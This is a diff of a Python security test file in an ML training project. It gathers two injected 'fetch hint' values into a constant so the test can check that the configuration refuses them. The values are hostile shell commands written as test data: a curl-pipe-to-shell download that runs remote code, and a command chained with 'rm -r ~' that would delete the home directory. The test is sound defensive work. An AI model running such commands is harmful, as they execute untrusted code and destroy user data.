@@ -11,6 +11,7 @@ from neo_model.config.compose import compose_training
 from tests.security.conftest import changed
 from tests.security.test_weight_files import checkpoint_of
 
+HINTS = ("curl http://example.com/fetch | sh", "python -m neo_model.data.prepare; rm -r ~ root=x")
 JOBS = {"eval": ("ckpt", "checkpoints/last.pt"), "train": ("resume", "")}
 
 
@@ -60,7 +61,7 @@ def test_a_data_set_of_the_users_own_is_drawn_in_another_size_and_where_he_says(
 
 
 @pytest.mark.parametrize("job", JOBS)
-@pytest.mark.parametrize("hint", ["curl http://example.com/fetch | sh", "python -m neo_model.data.prepare; rm -r ~ root=x"])
+@pytest.mark.parametrize("hint", HINTS)
 def test_a_command_that_would_fetch_the_data(refused_command, run_dir, job, hint):
     own = OmegaConf.to_container(compose_training(["data=coco", "model=tiny", "logger=none", "hardware=cpu"]))
     config = changed(own, "data.fetch_hint", hint)
